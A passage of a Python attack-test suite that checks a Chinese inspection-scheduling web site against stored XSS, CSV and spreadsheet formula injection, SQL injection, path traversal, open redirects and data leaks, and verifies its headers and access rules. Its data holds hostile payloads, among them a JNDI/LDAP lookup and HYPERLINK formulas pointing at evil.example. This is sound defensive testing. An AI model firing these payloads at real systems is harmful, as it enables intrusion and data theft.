#!/usr/bin/env python3
"""The attack suite of the web site (web_attack.sh runs it against the real `xinjian serve`).

usage:
  web_attack.py --make-data DIR         the import files and task specs web_attack.sh uses
  web_attack.py --findings RANK         the hostile findings entered for visit ATK-R-1-RANK
  web_attack.py --attack URL DIR        every attack against the server at URL

DIR holds, besides what --make-data wrote, shown-R.json and shown-S.json (`task show --json` of
the revealed task ATK-R-1 and of the drawn, unrevealed ATK-S-1, seen by their departments),
proof-R-full/ (`task proof ATK-R-1`: the full variant, with each subject's risk class) and
people.json (the two inspectors' logins, the users' password).

The routes the suite knows are in ROUTES: a route added to the site is one more line there
(its path with {task}, {uscc}, {file}, {visit} placeholders, its kind and its query
parameters). Paths that other steps of issue 14 add (the task and result pages, the
inspector's visits) are listed too: where they do not exist yet, a 404 is what they answer,
and every other check (no 500, headers, secrecy, escaping) still applies to that answer.

Exits 1 naming each failed check.
"""
import csv
import html
import html.parser
import http.client
import io
import json
import os
import re
import socket
import sys
import threading
import time
import urllib.parse
import xml.etree.ElementTree as ET
import zipfile

ALPHABET = "0123456789ABCDEFGHJKLMNPQRTUWXY"
WEIGHTS = [1, 3, 9, 27, 19, 26, 16, 17, 20, 29, 25, 13, 8, 24, 10, 30, 28]


def uscc(body17):
    s = sum(ALPHABET.index(c) * w for c, w in zip(body17, WEIGHTS))
    return body17 + ALPHABET[(31 - s % 31) % 31]


def resident_id(body17):
    """GB 11643: ISO 7064 MOD 11-2 check character."""
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return body17 + "10X98765432"[sum(int(c) * k for c, k in zip(body17, w)) % 11]


# Stored XSS, formulas and URLs: the names and addresses of the subjects of group A (drawn by
# ATK-R-1, whose results are published) and of group B (in the pool of ATK-S-1).
HOSTILE_NAMES = [
    "<script>alert(1)</script>恶意有限公司",
    '"><img src=x onerror=alert(1)>贸易有限公司',
    "javascript:alert(document.cookie)//科技有限公司",
    "=HYPERLINK(\"http://evil.example/\",\"点我\")商行",
    "+cmd|' /C calc'!A0 百货商店",
    "@SUM(1+1)*cmd|' /C calc'!A0 餐饮店",
    "-2+3+cmd|' /C calc'!A0 超市",
    "'><svg onload=alert(1)>{{7*7}}${7*7}<!--",
    "</textarea></title><iframe src=javascript:alert(1)>",
    "]]></summary><script>alert('atom')</script>",
]
HOSTILE_ADDRESSES = [
    '<script>alert("addr")</script>宁波市海曙区',
    "javascript:alert(1)",
    '" onmouseover="alert(1)" x="',
    "<a href=javascript:alert(1)>点此</a>",
    "=1+1",
    "宁波市<b>江北区</b><style>*{display:none}</style>",
    "\t=cmd",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "${jndi:ldap://evil.example/a}",
]
GROUP_A = [uscc("9133020000000A%03d" % i) for i in range(len(HOSTILE_NAMES))]
GROUP_B = [uscc("9133020500000B%03d" % i) for i in range(8)]
SECRET_NAME = "乙组保密对象"  # every group B subject's name holds it (and no other subject's)
FILLERS = [uscc("9133020300000F%03d" % i) for i in range(20)]
CLASSES = "ABCD"
INSPECTORS = [  # id, department, ID number (valid, made here)
    ("SCJG001", "SCJG", resident_id("33020319800101001")),
    ("SCJG002", "SCJG", resident_id("33020519750615002")),
    ("SCJG003", "SCJG", resident_id("33021219880808003")),
    ("SCJG004", "SCJG", resident_id("33020319920229004")),
    ("WJW001", "WJW", resident_id("33022519851111005")),
    ("WJW002", "WJW", resident_id("33020319700707006")),
    ("WJW003", "WJW", resident_id("33020519660606007")),
]


CITIZEN_ID = resident_id("33020319700707008")  # typed into the findings: served masked, never whole


def findings(rank):
    return ("<script>alert(%d)</script> \"><img src=x onerror=alert(%d)> =HYPERLINK(\"javascript:alert(1)\") "
            "]]></content></entry><entry><title>injected</title> javascript:alert(1) 负责人身份证%s"
            % (rank, rank, CITIZEN_ID))


def make_data(d):
    with open(os.path.join(d, "items.csv"), "w", encoding="utf-8") as f:
        f.write("code,name,department,legal_basis,class,ratio_min,ratio_max,frequency_per_year,target_types,"
                "target_labels,qualification\n"
                "ATK-SCJG,攻击测试事项（市监）<script>alert('item')</script>,SCJG,《企业信息公示暂行条例》第十四条,key,,,1,,,\n"
                "ATK-WJW,攻击测试事项（卫健）,WJW,《公共场所卫生管理条例》第十一条,key,,,1,,,\n")
    with open(os.path.join(d, "subjects.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow("uscc,name,type,region,industry,registered_on,status,risk_class,labels,address".split(","))
        for i, u in enumerate(GROUP_A):
            w.writerow([u, HOSTILE_NAMES[i], "enterprise", "330203", "I6513", "2020-01-02", "active", CLASSES[i % 4],
                        "攻击A", HOSTILE_ADDRESSES[i]])
        for i, u in enumerate(GROUP_B):
            w.writerow([u, "%s%d号<script>alert('b%d')</script>" % (SECRET_NAME, i, i), "enterprise", "330205",
                        "F5292", "2019-05-06", "active", CLASSES[(i + 1) % 4], "攻击B", "宁波市北仑区 %d 号" % i])
        for i, u in enumerate(FILLERS):
            w.writerow([u, "普通对象%d号有限公司" % i, "enterprise", "330203", "F5292", "2018-03-04", "active",
                        CLASSES[i % 4], "", "宁波市海曙区普通路 %d 号" % i])
    # Credit records whose authority, basis and title are the hostile texts (the credit API and the
    # subject page's credit section must show them as text); one of them out of publicity.
    with open(os.path.join(d, "records.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow("uscc,kind,ref,category,occurred_on,value,heavy,authority,basis,title".split(","))
        for i, u in enumerate(GROUP_A):
            w.writerow([u, "penalty", "ATK-PEN-%d<script>" % i, "fine", "2026-11-02", "50000", "0", HOSTILE_NAMES[i],
                        HOSTILE_ADDRESSES[i].strip(), "=HYPERLINK(\"http://evil.example/\") <img src=x onerror=alert(%d)>" % i])
            w.writerow([u, "penalty", "ATK-OLD-%d" % i, "warning", "2025-01-02", "", "0", "局", "依据", "已过公示期"])
    with open(os.path.join(d, "inspectors.csv"), "w", encoding="utf-8") as f:
        f.write("id,name,department,unit,office_region,certificate_no,certificate_expires,qualifications,expert,status,"
                "id_number\n")
        for n, (i, dept, idn) in enumerate(INSPECTORS):
            f.write("%s,检查员%d,%s,执法稽查处,330203,浙02-3%04d,2029-06-30,,0,active,%s\n" % (i, n, dept, n, idn))
    common = {"exclusions": {"same_item_within_days": 0, "open_tasks": False},
              "entropy": {"source": "manual", "description": "攻击测试 <script>alert('entropy')</script>"},
              "due_date": "2026-12-31"}
    specs = {
        "R": dict(common, id="ATK-R-1", title="@SUM(1+1) 攻击测试（已揭示）<script>alert('title')</script>", department="SCJG",
                  items=["ATK-SCJG"], filters={"labels": ["攻击A"]}, strata="risk_class",
                  rule={"ratio_percent": {"*": 100}}, team={"slots": [{"group": "SCJG", "count": 2}]}),
        "S": dict(common, id="ATK-S-1", title="=HYPERLINK(\"http://evil.example/\") 攻击测试（未揭示）\"><img src=x onerror=alert(2)>", department="WJW",
                  items=["ATK-WJW"], filters={"labels": ["攻击B"]}, rule={"count": 3},
                  team={"slots": [{"group": "WJW", "count": 2}]}),
    }
    for k, spec in specs.items():
        with open(os.path.join(d, "task-%s.json" % k), "w", encoding="utf-8") as f:
            json.dump(spec, f, ensure_ascii=False)


if __name__ == "__main__" and sys.argv[1:2] == ["--make-data"]:
    make_data(sys.argv[2])
    sys.exit(0)
if __name__ == "__main__" and sys.argv[1:2] == ["--findings"]:
    print(findings(int(sys.argv[2])))
    sys.exit(0)

# =============================================================================================
# The attacks.

BASE = urllib.parse.urlparse(sys.argv[2]) if len(sys.argv) > 2 else None
DIR = sys.argv[3] if len(sys.argv) > 3 else ""
HOSTPORT = "%s:%s" % (BASE.hostname, BASE.port) if BASE else ""
failures = []
LOG = []  # (who, method, target, status, headers, body)
SET_COOKIES = []


def check(name, ok, detail=""):
    if not ok:
        failures.append("%s: %s" % (name, str(detail)[:400]))


# ---- What every response must have, whoever asked and whatever it was.
# Text that would tell an attacker about the server's inside: SQL, files, stack traces.
LEAKS = [b"syntax error", b"SQLITE_", b"sqlite3", b"SQL logic error", b"no such table", b"no such column",
         b"unrecognized token", b"ERROR:  ", b"soci::", b"soci error", b"relation \"", b"postgresql://", b".cpp",
         b".hpp", b"/tmp/", b"/work/", b"/usr/", b"Traceback", b"std::", b"terminate called", b"what():",
         b"root:x:0:0", b"PATH="]


def check_headers(what, status, headers):
    csp = headers.get("content-security-policy", "")
    check("CSP " + what, "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
          and "unsafe-eval" not in csp, "%s %r" % (status, csp))
    check("nosniff " + what, headers.get("x-content-type-options") == "nosniff", status)
    check("Referrer-Policy " + what, headers.get("referrer-policy") == "same-origin", status)
    check("Content-Length " + what, "content-length" in headers or status in (204, 304), headers)
    check("no CORS grant " + what, not any(k.startswith("access-control-allow") for k in headers), headers)


def check_common(who, method, target, status, headers, body):
    what = "%s %s %s as %s" % (status, method, target[:120], who)
    check("no 5xx " + what, status is not None and status < 500, body[:300])
    if status is None:
        return
    check_headers(what, status, headers)
    # What the client sent may come back in a message naming the refused value: not a leak.
    scan = body
    for p in ECHOED:
        for form in (p, json.dumps(p)[1:-1], html.escape(p), html.escape(p, quote=False)):
            scan = scan.replace(form.encode(), b"")
    for leak in LEAKS:
        if leak in scan:
            # The echo of what the client sent in a refused parameter is not a leak; the rest is.
            if leak in (b"/tmp/", b"/work/", b"/usr/") and b"etc/passwd" in target.encode():
                continue
            check("no server internals " + what, False, "%r in %r" % (leak, body[:300]))
    ct = headers.get("content-type", "")
    if status >= 400 and (target.startswith("/api/") or target.startswith("/healthz")):
        check("JSON error " + what, ct.startswith("application/json"), ct)
    if ct.split(";")[0].strip() == "application/json" and body:
        try:
            j = json.loads(body)
            if status >= 400:
                check("error shape " + what, isinstance(j, dict) and isinstance(j.get("error"), dict) and
                      " / " in j["error"].get("message", ""), body[:200])
        except ValueError:
            check("JSON parses " + what, False, body[:200])
    if ct.startswith("text/html"):
        html_safe(what, body)
    if status == 200 and ct.startswith("text/csv"):
        text = body.decode("gb18030" if "gb18030" in ct.lower() else "utf-8-sig", "replace")
        for r in csv.reader(io.StringIO(text, newline="")):
            for cell in r:
                check("csv: no cell starts a formula " + what, cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell[:60])
    if status == 200 and "spreadsheetml" in ct:
        try:
            with zipfile.ZipFile(io.BytesIO(body)) as z:
                for name in z.namelist():
                    if name.startswith("xl/worksheets/"):
                        sheet = z.read(name)
                        check("xlsx: no formula " + what, b"<f>" not in sheet and b"<f " not in sheet, name)
        except zipfile.BadZipFile as e:
            check("xlsx parses " + what, False, e)
    if status == 200 and "atom+xml" in ct:
        try:
            root = ET.fromstring(body)
            check("atom: only Atom elements " + what, all(el.tag.startswith("{http://www.w3.org/2005/Atom}")
                                                          for el in root.iter()), "")
        except ET.ParseError as e:
            check("atom parses " + what, False, e)
    for c in headers.get("_set_cookie", []):
        SET_COOKIES.append(c)


class Scan(html.parser.HTMLParser):
    """The markup a page really has: what an escaping bug would add shows up here."""
    BAD_TAGS = {"iframe", "object", "embed", "svg", "math", "base", "frame", "frameset", "applet", "style", "img",
                "video", "audio", "textarea", "marquee", "isindex"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.text, self.in_script = [], [], False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "script":
            if not (a.get("src") or "").startswith("/assets/") or set(a) - {"src", "defer", "type"}:
                self.problems.append("a script tag %r" % attrs)
            self.in_script = True
        if tag in self.BAD_TAGS:
            self.problems.append("a <%s> tag %r" % (tag, attrs))
        if tag == "meta" and ("http-equiv" in a or (set(a) - {"charset", "name", "content"})):
            self.problems.append("a meta tag %r" % attrs)
        if tag == "link" and not (a.get("href") or "").startswith("/"):
            self.problems.append("a link %r" % attrs)
        for name, value in attrs:
            v = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append("attribute %s=%r on <%s>" % (name, value, tag))
            if name in ("href", "src", "action", "data", "poster", "background", "cite") and (
                    re.match(r"^[a-z][a-z0-9+.-]*:", v) and not v.startswith(("http://", "https://", "mailto:"))
                    or v.startswith("//")):
                self.problems.append("a URL %s=%r on <%s>" % (name, value, tag))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append("inline script %r" % data[:80])
        self.text.append(data)


def html_safe(what, body):
    s = Scan()
    s.feed(body.decode("utf-8", "replace"))
    s.close()
    check("markup " + what, not s.problems, s.problems[:3])
    for raw in (b"<script>", b"<img src=x", b"<svg", b"<iframe", b"onerror=alert(1)>", b"<style>", b"<base "):
        check("raw %r in %s" % (raw, what), raw not in body, body[max(0, body.find(raw) - 80):body.find(raw) + 80])
    return "".join(s.text)


def page_text(body):
    s = Scan()
    s.feed(body.decode("utf-8", "replace"))
    return "".join(s.text)


def parse_raw_response(data):
    if not data:
        return None, {}, b""
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    m = re.match(rb"HTTP/1\.[01] (\d{3}) ", lines[0] + b" ")
    headers = {"_set_cookie": []}
    for line in lines[1:]:
        k, _, v = line.partition(b":")
        k = k.decode("latin-1").strip().lower()
        headers[k] = v.decode("latin-1").strip()
        if k == "set-cookie":
            headers["_set_cookie"].append(headers[k])
    n = int(headers.get("content-length", len(body)) or 0)
    return (int(m.group(1)) if m else -1), headers, body[:n]


def raw(data, who="raw", timeout=60, label=None):
    """Sends bytes as they are; the parsed answer (status None when the server closed silently)."""
    s = socket.create_connection((BASE.hostname, BASE.port), timeout=timeout)
    out = b""
    try:
        s.sendall(data)
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
            st, h, body = parse_raw_response(out)
            if b"\r\n\r\n" in out and "content-length" in h and len(out.partition(b"\r\n\r\n")[2]) >= int(h["content-length"]):
                break
    except OSError:
        pass
    finally:
        s.close()
    st, h, body = parse_raw_response(out)
    label = label or data[:80].decode("latin-1")
    if st is not None:
        check_common(who, "RAW", label, st, h, body)
    LOG.append((who, "RAW", label, st, h, body))
    return st, h, body


class Client:
    """A browser-like client: keeps the cookies the server sets."""

    def __init__(self, who):
        self.who, self.cookies = who, {}

    def request(self, method, target, body=None, headers=None, json_body=None, cookies=True):
        h = dict(headers or {})
        if json_body is not None:
            body = json.dumps(json_body).encode()
            h.setdefault("Content-Type", "application/json")
        if isinstance(body, str):
            body = body.encode()
        if cookies and self.cookies:
            h["Cookie"] = "; ".join("%s=%s" % kv for kv in self.cookies.items())
        conn = http.client.HTTPConnection(BASE.hostname, BASE.port, timeout=120)
        conn.putrequest(method, target, skip_accept_encoding=True)
        for k, v in h.items():
            conn.putheader(k, v)
        conn.putheader("Content-Length", str(len(body or b"")))
        conn.endheaders(body)
        resp = conn.getresponse()
        data = resp.read() if method != "HEAD" else b""
        headers = {"_set_cookie": []}
        for k, v in resp.getheaders():
            headers[k.lower()] = v
            if k.lower() == "set-cookie":
                headers["_set_cookie"].append(v)
        conn.close()
        for c in headers["_set_cookie"]:
            name, _, rest = c.partition("=")
            if "Max-Age=0" in c:
                self.cookies.pop(name, None)
            else:
                self.cookies[name] = rest.split(";", 1)[0]
        check_common(self.who, method, target, resp.status, headers, data)
        LOG.append((self.who, method, target, resp.status, headers, data))
        return resp.status, headers, data

    def get(self, target, **kw):
        return self.request("GET", target, **kw)

    def csrf(self):
        st, _, data = self.get("/api/v1/session")
        return json.loads(data)["csrf_token"]

    def sign_in(self, login, password):
        token = self.csrf()
        st, _, data = self.request("POST", "/api/v1/session", json_body={"login": login, "password": password},
                                   headers={"X-CSRF-Token": token, "Origin": "http://" + HOSTPORT})
        check("sign in " + login, st == 200 and "xj_session" in self.cookies, (st, data[:200]))
        return json.loads(data) if st == 200 else {}


def healthy(after):
    st, _, data = Client("health").get("/healthz")
    check("the server still answers /healthz after " + after, st == 200 and b'"ok"' in data, st)


# ---- The routes the suite knows. A new route: one more line.
RESULT_PARAMS = ["task", "department", "uscc", "item", "result", "published_from", "published_to", "order", "limit",
                 "offset"]
ROUTES = [
    # path, kind (api | page | asset | download | feed), query parameters it reads
    ("/healthz", "api", []),
    ("/api/v1/session", "api", []),
    ("/", "page", ["lang"]),
    ("/login", "page", ["next", "lang"]),
    ("/assets/site.css", "asset", []),
    ("/assets/draw/verify-draw.js", "asset", []),
    ("/api/v1/tasks", "api", ["state", "department", "limit", "offset"]),
    ("/api/v1/tasks/{task}", "api", []),
    ("/api/v1/tasks/{task}/proof", "api", []),
    ("/api/v1/tasks/{task}/proof/{file}", "api", []),
    ("/api/v1/tasks/{task}/proof-full", "api", []),
    ("/api/v1/tasks/{task}/proof-full/{file}", "api", []),
    ("/api/v1/results", "api", RESULT_PARAMS),
    ("/api/v1/results/{task}", "api", RESULT_PARAMS),
    ("/api/v1/results.csv", "download", RESULT_PARAMS + ["encoding"]),
    ("/api/v1/results.jsonl", "download", RESULT_PARAMS),
    ("/api/v1/results.xlsx", "download", RESULT_PARAMS),
    ("/feeds/results.atom", "feed", ["task", "department", "limit"]),
    ("/api/v1/subjects", "api", ["q", "limit", "offset"]),
    ("/api/v1/subjects/{uscc}", "api", []),
    ("/api/v1/subjects/{uscc}/credit", "api", []),
    ("/api/v1/items", "api", ["department", "limit", "offset"]),
    ("/subjects", "page", ["q", "offset"]),
    ("/subjects/{uscc}", "page", []),
    ("/items", "page", ["department", "limit", "offset"]),
    # Added by the next steps of issue 14 (the task and result pages, the inspector's visits):
    # 404 until they exist; every check applies to whatever they answer.
    ("/tasks", "page", ["state", "department", "q", "offset"]),
    ("/tasks/{task}", "page", []),
    ("/tasks/{task}/proof", "page", []),
    ("/results", "page", RESULT_PARAMS),
    ("/results/{task}", "page", ["offset"]),
    ("/my/visits", "page", ["state", "task", "offset"]),
    ("/my/visits/{visit}", "page", []),
    ("/api/v1/my/visits", "api", ["state", "task", "limit", "offset"]),
    ("/api/v1/my/visits/{visit}", "api", []),
    ("/api/v1/visits/{visit}", "api", []),
    ("/department/visits", "page", ["department", "state", "task", "offset"]),
    ("/api/v1/department/visits", "api", ["department", "state", "task", "limit", "offset"]),
    ("/api/v1/tasks.csv", "download", ["state", "department", "encoding", "limit", "offset"]),
    ("/api/v1/tasks.jsonl", "download", ["state", "department", "limit", "offset"]),
    ("/api/v1/tasks.xlsx", "download", ["state", "department", "limit", "offset"]),
    ("/feeds/tasks.atom", "feed", ["state", "department", "limit"]),
    ("/visits/{visit}", "page", []),
]
PROOF_FILES = ["proof.json", "pool.tsv", "selection.tsv", "pool-public.tsv", "selection-public.tsv", "assignment.tsv",
               "groups.tsv", "conflicts.tsv"]
DIRECTORY = re.compile(r"^/(api/v1/)?subjects(/|$|\?)")

SQLI = ["' OR 1=1--", "' OR '1'='1", "1; DROP TABLE subjects; --", "'; DROP TABLE users; --",
        "x' UNION SELECT login, roles FROM users --", "1 UNION SELECT id_number FROM inspectors",
        "\" OR \"\"=\"", "' AND (SELECT COUNT(*) FROM users) > 0 --", "';SELECT pg_sleep(30);--",
        "ATK-R-1' --", "\\", "%", "*", "$1", "?", "' || (SELECT csrf_token FROM web_sessions LIMIT 1) || '"]
ECHOED = SQLI + ["../../etc/passwd", "/etc/passwd"]
RAW_PAYLOADS = ["%00", "%00%27%20OR%201%3D1--", "A" * 3000, "%ff%fe", "%zz", "%C0%AF", "%E5%8D"]


def enc(s):
    return urllib.parse.quote(s, safe="")


def instantiate(path, values):
    """Every path of `path` with its placeholders filled from `values` (name → list)."""
    out = [path]
    for name in ("task", "file", "uscc", "visit"):
        ph = "{%s}" % name
        out = [p.replace(ph, v, 1) for p in out for v in values[name]] if any(ph in p for p in out) else out
    return out


def main():
    people = json.load(open(os.path.join(DIR, "people.json")))
    password = people["password"]
    task_r = json.load(open(os.path.join(DIR, "shown-R.json")))
    task_s = json.load(open(os.path.join(DIR, "shown-S.json")))
    secret_usccs = [s["uscc"] for s in task_s["selection"]]
    secret_team = sorted({i for s in task_s["selection"] for i in s.get("team", [])})
    check("a secret to keep", len(secret_usccs) == 3 and secret_team, task_s.get("selection"))
    r_visits = ["ATK-R-1-%d" % s["rank"] for s in task_r["selection"]]
    a_visits = ["ATK-R-1-%d" % s["rank"] for s in task_r["selection"] if people["inspector_a"] in s["team"]]
    b_visits = ["ATK-S-1-%d" % s["rank"] for s in task_s["selection"] if people["inspector_b"] in s["team"]]
    check("the inspectors' visits", a_visits and b_visits, (a_visits, b_visits))
    # Each subject's risk class (the full proof's pool says it; the data says it for the rest).
    classes = {}
    for i, u in enumerate(GROUP_A):
        classes[u] = CLASSES[i % 4]
    for i, u in enumerate(GROUP_B):
        classes[u] = CLASSES[(i + 1) % 4]
    for i, u in enumerate(FILLERS):
        classes[u] = CLASSES[i % 4]
    for line in open(os.path.join(DIR, "proof-R-full", "pool.tsv"), encoding="utf-8"):
        f = line.rstrip("\n").split("\t")
        if len(f) == 2:
            check("pool.tsv class", classes.get(f[0]) == f[1], line)
    id_numbers = [i[2] for i in INSPECTORS] + [CITIZEN_ID]
    never = [n.encode() for n in id_numbers] + [(i[2][:6] + "********" + i[2][-4:]).encode() for i in INSPECTORS] + \
        [b"$argon2", b"password_hash", b"token_hash"]

    # ---- Sign in everyone (before any throttle test: the address lock would refuse them).
    anon = Client("anonymous")
    users = {}
    for who, login in (("admin", "atk.admin"), ("sv_scjg", "scjg.sv"), ("sv_wjw", "wjw.sv"),
                       ("insp_a", people["inspector_a"]), ("insp_b", people["inspector_b"]), ("auditor", "atk.audit")):
        users[who] = Client(who)
        users[who].sign_in(login, password)
    foreign = [anon, users["sv_scjg"], users["insp_a"]]  # not of WJW: ATK-S-1 is a secret to them
    values = {"task": ["ATK-R-1", "ATK-S-1"], "file": PROOF_FILES, "uscc": GROUP_A + GROUP_B + FILLERS[:1],
              "visit": r_visits[:1] + a_visits[:1] + b_visits + ["ATK-S-1-1"]}
    paths = []
    for path, kind, params in ROUTES:
        for p in instantiate(path, values):
            if p not in paths:
                paths.append(p)

    # ---- 1. Everyone asks every route. Escaping, headers and access on each answer.
    for c in [anon] + list(users.values()):
        for p in paths:
            c.get(p)
    c = users["sv_scjg"]
    for target in ["/api/v1/subjects?q=" + enc(q) for q in ("<script", "onerror", "javascript:", "=HYPERLINK", "乙组保密")] + \
                  ["/subjects?q=" + enc(q) for q in ("<script", "onerror", "javascript:", "=HYPERLINK", "<svg")] + \
                  ["/api/v1/results?limit=500", "/api/v1/results?task=ATK-R-1", "/api/v1/results?task=ATK-S-1",
                   "/api/v1/results.csv?encoding=gb18030", "/api/v1/tasks?limit=500", "/api/v1/tasks?department=WJW",
                   "/feeds/results.atom?task=ATK-S-1", "/feeds/results.atom?department=WJW", "/?lang=en",
                   "/login?next=" + enc("javascript:alert(1)"), "/login?next=" + enc("//evil.example/"),
                   "/login?next=" + enc("\"><script>alert(1)</script>"), "/api/v1/tasks.csv", "/api/v1/tasks.xlsx",
                   "/api/v1/tasks.csv?encoding=gb18030", "/feeds/tasks.atom"]:
        for cl in (anon, c):
            cl.get(target)

    # HEAD: the GET's status and headers, no body.
    for p in ("/", "/api/v1/tasks/ATK-S-1", "/api/v1/results.csv", "/subjects/" + GROUP_A[0], "/nothing-here"):
        s1, h1, _ = anon.get(p)
        s2, h2, b2 = anon.request("HEAD", p)
        check("HEAD " + p, s1 == s2 and b2 == b"" and h1.get("content-type") == h2.get("content-type"), (s1, s2))

    # Access.
    st = {}
    for who, c in [("anonymous", anon)] + list(users.items()):
        for p in ("/api/v1/tasks/ATK-R-1/proof-full", "/api/v1/tasks/ATK-R-1/proof-full/pool.tsv"):
            st[(who, p)] = c.get(p)[0]
    for p in ("/api/v1/tasks/ATK-R-1/proof-full", "/api/v1/tasks/ATK-R-1/proof-full/pool.tsv"):
        check("anonymous full proof: 401", st[("anonymous", p)] == 401, st[("anonymous", p)])
        for who in ("sv_wjw", "insp_b"):
            check("another department's full proof: 403 to " + who, st[(who, p)] == 403, st[(who, p)])
        for who in ("sv_scjg", "auditor", "admin"):
            check("the full proof to " + who, st[(who, p)] == 200, st[(who, p)])
    for p in [p for p in paths if p.startswith("/my/")]:
        s, h, _ = anon.get(p)
        check("anonymous " + p + ": 303 to sign in (or 404 until it exists)",
              s == 404 or (s == 303 and h.get("location", "").startswith("/login?next=")), (s, h.get("location")))
    for p in [p for p in paths if p.startswith("/api/v1/my/")]:
        s, _, _ = anon.get(p)
        check("anonymous " + p + ": 401 (or 404 until it exists)", s in (401, 404), s)
    for p in [p for p in paths if p.startswith("/department/")]:
        s, h, _ = anon.get(p)
        check("anonymous " + p + ": 303 to sign in (or 404 until it exists)",
              s == 404 or (s == 303 and h.get("location", "").startswith("/login?next=")), (s, h.get("location")))
    for p in [p for p in paths if p.startswith("/api/v1/department/")]:
        s, _, _ = anon.get(p)
        check("anonymous " + p + ": 401 (or 404 until it exists)", s in (401, 404), s)
    # A supervisor reads for another department; an inspector for another task.
    for p in ("/department/visits?department=WJW", "/api/v1/department/visits?department=WJW",
              "/department/visits?task=ATK-S-1", "/api/v1/department/visits?task=ATK-S-1"):
        s, _, _ = users["sv_scjg"].get(p)
        check("SCJG's supervisor asks " + p + ": 400/403/404", s in (400, 403, 404), s)
        s, _, _ = users["insp_a"].get(p)
        check("an inspector asks " + p + ": 403/404", s in (403, 404), s)
    for p in ("/my/visits?task=ATK-S-1", "/api/v1/my/visits?task=ATK-S-1"):
        users["insp_a"].get(p)  # whatever it answers: the secrecy checks below read it
    # Inspector A asks for inspector B's visits (and B for A's) through every visit route.
    for who, theirs in (("insp_a", b_visits + ["ATK-S-1-1"]), ("insp_b", a_visits)):
        for v in theirs:
            for tpl in ("/my/visits/{}", "/api/v1/my/visits/{}"):
                s, _, body = users[who].get(tpl.format(v))
                check("%s reads %s through %s: 403/404" % (who, v, tpl), s in (403, 404), s)
            for tpl in ("/api/v1/visits/{}", "/visits/{}"):
                if v.startswith("ATK-S-1"):
                    s, _, body = users[who].get(tpl.format(v))
                    check("%s reads %s through %s: 403/404" % (who, v, tpl), s in (403, 404), s)
    for who, mine, theirs in (("insp_a", a_visits, b_visits), ("insp_b", b_visits, a_visits)):
        for p in ("/my/visits", "/api/v1/my/visits"):
            s, _, body = users[who].get(p)
            if s == 200:
                for v in theirs:
                    check("%s's %s lists no visit of the other inspector" % (who, p),
                          not re.search(re.escape(v).encode() + rb"(?![0-9])", body), v)
    # The secret is what the suite looks for: WJW's own users see it (a control of the check).
    for who in ("sv_wjw",):
        s, _, body = users[who].get("/api/v1/tasks/ATK-S-1")
        check("the selection to " + who + " (control)", s == 200 and all(u.encode() in body for u in secret_usccs), s)
    # A signed-in page shows the user's hostile name escaped.
    s, _, body = users["sv_scjg"].get("/")
    check("the signed-in user's name, escaped", "<script>alert(1)</script>市监" in page_text(body), s)

    # ---- 2. Stored XSS: every answer with the hostile names, addresses and findings.
    for i, u in enumerate(GROUP_A):
        s, h, body = anon.get("/api/v1/subjects/" + u)
        j = json.loads(body) if s == 200 else {}
        check("subject JSON " + u, s == 200 and h.get("content-type", "").startswith("application/json") and
              j.get("name") == HOSTILE_NAMES[i] and j.get("address") == HOSTILE_ADDRESSES[i].strip(), (s, body[:200]))
        s, h, body = anon.get("/subjects/" + u)
        text = page_text(body)
        check("subject page shows the name and address as text " + u,
              s == 200 and HOSTILE_NAMES[i] in text and HOSTILE_ADDRESSES[i].strip() in text, s)
    # The credit API: the hostile texts as data, the record out of publicity never, no risk class.
    for i, u in enumerate(GROUP_A):
        s, h, body = anon.get("/api/v1/subjects/" + u + "/credit")
        j = json.loads(body) if s == 200 else {}
        recs = [r for r in j.get("records", []) if r.get("kind") == "penalty"]
        check("credit JSON " + u, s == 200 and j.get("scope") == "public" and len(recs) == 1 and
              recs[0].get("authority") == HOSTILE_NAMES[i] and recs[0].get("id") == "penalty/ATK-PEN-%d<script>" % i,
              (s, body[:300]))
        check("no record out of publicity in " + u, b"ATK-OLD" not in body, "")
        check("no risk class in the credit of " + u, b"risk" not in body, "")
        s, h, body = users["sv_scjg"].get("/api/v1/subjects/" + u + "/credit")
        j = json.loads(body) if s == 200 else {}
        check("the supervisor sees every record of " + u, s == 200 and j.get("scope") == "full" and b"ATK-OLD" in body and
              b"risk" not in body, (s, body[:200]))
    s, h, body = anon.get("/api/v1/results?limit=500")
    res = json.loads(body)
    names = {n["uscc"]: n["name"] for n in res["items"]}
    check("results: every subject of ATK-R-1", sorted(names) == sorted(s_["uscc"] for s_ in task_r["selection"]),
          sorted(names))
    findings_seen = [it["findings"] for n in res["items"] for it in n["items"]]
    check("results: hostile findings as text", all("<script>alert(" in f for f in findings_seen) and findings_seen,
          findings_seen[:1])
    s, h, body = anon.get("/api/v1/results.csv")
    check("csv type", h.get("content-type", "").startswith("text/csv"), h.get("content-type"))
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    for r in rows:
        for cell in r:
            check("csv: no cell starts a formula", cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell[:60])
    check("csv: the formula names are there, neutralised",
          any(cell.startswith("'=HYPERLINK") for r in rows for cell in r), len(rows))
    s, h, body = anon.get("/api/v1/results.csv?encoding=gb18030")
    text = body.decode("gb18030", "replace")
    for r in csv.reader(io.StringIO(text, newline="")):
        for cell in r:
            check("csv gb18030: no cell starts a formula", cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell[:60])
    s, h, body = anon.get("/api/v1/results.xlsx")
    try:
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    sheet = z.read(name)
